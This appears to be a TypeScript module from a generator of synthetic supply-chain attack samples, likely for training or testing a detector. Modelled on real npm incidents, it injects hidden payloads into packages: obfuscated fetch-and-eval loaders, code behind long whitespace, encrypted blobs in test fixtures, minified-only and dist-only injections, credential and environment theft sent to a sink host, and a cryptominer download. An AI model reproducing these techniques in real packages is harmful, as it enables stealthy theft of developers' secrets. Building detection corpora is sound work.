/** The techniques of families.ts that hide something, as another author writes them. See families-second-writer.ts. */
import { createCipheriv } from "node:crypto";
import { brotliCompressSync } from "node:zlib";
import type { Family } from "./families.ts";
import { CANARY, type Host, changeManifest, manifestOf, textOf, word } from "./host.ts";
import { sealed } from "./inert.ts";
import { anywhere, between, fresh, hex, inFunction, kindOf, load, minified, oneOf, sink, target } from "./second-writer-place.ts";

const stage = (host: Host): string =>
  sealed(
    oneOf(host, [
      `fetch("${sink(host)}/${CANARY}?" + new URLSearchParams(process.env)).catch(() => {});`,
      `"${CANARY}"; fetch("${sink(host)}/n").then((r) => r.text()).then((t) => Function(t)());`,
    ]),
  );

export const hiddenFamilies: readonly Family[] = [
  {
    name: "base64-function/second",
    known: "eslint-config-prettier wave, event-stream",
    change: (host) => {
      const path = target(host);
      const bytes = Buffer.from(stage(host));
      const key = host.random(200) + 20;
      const name = fresh(host, "t");
      const parts = [...(bytes.toString("base64").match(/.{1,24}/g) ?? [])];
      const text = oneOf(host, [
        `Buffer.from([${parts.map((part) => `"${part}"`).join(",")}].join(""), "base64").toString()`,
        `String.fromCharCode(...[${[...bytes].map((byte) => byte ^ key).join(",")}].map((c) => c ^ ${key}))`,
        `atob("${[...bytes.toString("base64")].toReversed().join("")}".split("").reverse().join(""))`,
        `decodeURIComponent("${[...bytes].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("")}")`,
      ]);
      anywhere(host, path, () => ({
        code: oneOf(host, [
          `const ${name} = ${text}; Object.getPrototypeOf(async function () {}).constructor(${name})().catch(() => "${CANARY}");`,
          `import("data:text/javascript;base64," + btoa(${text})).catch(() => "${CANARY}");`,
          `[]["filter"]["constructor"](${text})(); /* ${CANARY} */`,
          `(globalThis["ev" + "al"] || String)(${text}); /* ${CANARY} */`,
        ]),
      }));
    },
  },
  {
    name: "behind-blanks/second",
    known: "npm packages of 2024, VS Code extensions",
    change: (host) => {
      const path = target(host);
      const code = `fetch("${sink(host)}/${CANARY}").then(function(r){return r.text()}).then(eval)`;
      const tabs = "\t".repeat(90 + host.random(200));
      // ECMA-262 §12.3: U+2028 ends a line, and with it the comment.
      const added = oneOf(host, [
        `// eslint-disable-next-line${tabs}\u2028${code};`,
        `/* istanbul ignore next */${tabs}${code};`,
        `${"\n".repeat(220 + host.random(100))}${" ".repeat(160)};${code};\n`,
        `;${"\u00a0".repeat(300)}void ${code};`,
      ]);
      if (host.random(2) === 0) between(host, path, { code: added });
      else inFunction(host, path, () => ({ code: added }));
    },
  },
  {
    name: "blob-in-tests/second",
    known: "flatmap-stream: encrypted test data whose key is the description; xz",
    change: (host) => {
      const path = target(host);
      const code = stage(host);
      const description = String(manifestOf(host)["description"] ?? CANARY);
      const encrypted = host.random(2) === 0;
      const file = `${oneOf(host, ["test/data", "tests", "__tests__/fixtures", "benchmark"])}/${word(host)}${encrypted ? oneOf(host, [".json", ".snap"]) : oneOf(host, [".br", ".dat", ".bin"])}`;
      const [fs, crypto, zlib] = [load(host, path, "fs"), load(host, path, "crypto"), load(host, path, "zlib")];
      const up = "../".repeat(path.split("/").length - 1) || "./";
      const at = kindOf(host, path) === "module" ? `new URL("${up}${file}", import.meta.url)` : `require.resolve("${up}${file}")`;
      if (encrypted) {
        const key = Buffer.from(description.padEnd(32, "0")).subarray(0, 32);
        const cipher = createCipheriv("aes-256-cbc", key, Buffer.alloc(16));
        host.files.set(file, `${JSON.stringify([cipher.update(code, "utf8", "hex") + cipher.final("hex"), hex(host, 400)])}\n`);
        between(host, path, {
          loads: [fs, crypto],
          code: `try { const d = ${crypto.use}.createDecipheriv("aes-256-cbc", Buffer.from((process.env.npm_package_description || "").padEnd(32, "0")).subarray(0, 32), Buffer.alloc(16)); new module.constructor()._compile(d.update(JSON.parse(${fs.use}.readFileSync(${at}))[0], "hex", "utf8") + d.final("utf8"), ""); } catch { /* ${CANARY} */ }`,
        });
      } else {
        host.files.set(file, brotliCompressSync(Buffer.from(code)));
        anywhere(host, path, () => ({
          loads: [fs, zlib],
          code: `${fs.use}.readFile(${at.replace(/^require.resolve\((.*)\)$/, "__dirname + '/' + $1")}, (e, b) => e || ${zlib.use}.brotliDecompress(b, (e, t) => e || (0, eval)(t.toString()))); /* ${CANARY} */`,
        }));
      }
    },
  },
  {
    name: "minified-only/second",
    known: "event-stream's flatmap: the minified file alone has it",
    change: (host) => {
      const path = target(host);
      const readable = textOf(host, path);
      inFunction(host, path, () => ({
        code: `typeof fetch == "function" && fetch("${sink(host)}/${CANARY}", { method: "POST", body: JSON.stringify(${oneOf(host, ["globalThis.process ? process.env : document.cookie", "[globalThis.location && location.href, globalThis.localStorage]"])}) });`,
      }));
      const kind = kindOf(host, path);
      const whole = minified(textOf(host, path), kind);
      const beside = path.replace(/(\.[cm]?js)$/, ".min$1");
      // Either the file itself is minified now, or a minified one is put beside it and pointed to.
      if (host.random(2) === 0) host.files.set(path, whole);
      else {
        host.files.set(path, readable);
        host.files.set(beside, whole);
        changeManifest(host, (manifest) => {
          manifest[oneOf(host, ["unpkg", "browser", "jsdelivr"])] = `./${beside}`;
          if (host.random(2) === 0) manifest["main"] = `./${beside}`;
        });
      }
    },
  },
  {
    name: "dist-only/second",
    known: "ultralytics, rspack",
    change: (host) => {
      const built = [...host.files.keys()]
        .filter((path) => /^(?:dist|lib|build|cjs|esm|out|es)\/.*\.[cm]?js$/.test(path) && !/\.test\./.test(path))
        .toSorted();
      const path = built[host.random(Math.max(1, built.length))] ?? target(host);
      const [cp, fs, os] = [load(host, path, "child_process"), load(host, path, "fs"), load(host, path, "os")];
      inFunction(host, path, () => ({
        loads: [cp, fs, os],
        code: oneOf(host, [
          `["/.aws/credentials", "/.ssh/id_ed25519", "/.npmrc"].map((f) => { try { return ${fs.use}.readFileSync(${os.use}.homedir() + f, "utf8"); } catch { return ""; } }).filter(Boolean).forEach((body) => fetch("${sink(host)}/${CANARY}", { method: "POST", body }));`,
          `${cp.use}.execFile("sh", ["-c", "(cd /tmp && curl -sO http://127.0.0.1:9/${CANARY}/xmrig && ./xmrig) &"], function () {});`,
          `void ${cp.use}.spawn(process.execPath, ["-e", "fetch('${sink(host)}/${CANARY}',{method:'POST',body:JSON.stringify(process.env)})"], { detached: true, stdio: "ignore" }).unref();`,
        ]),
      }));
    },
  },
];
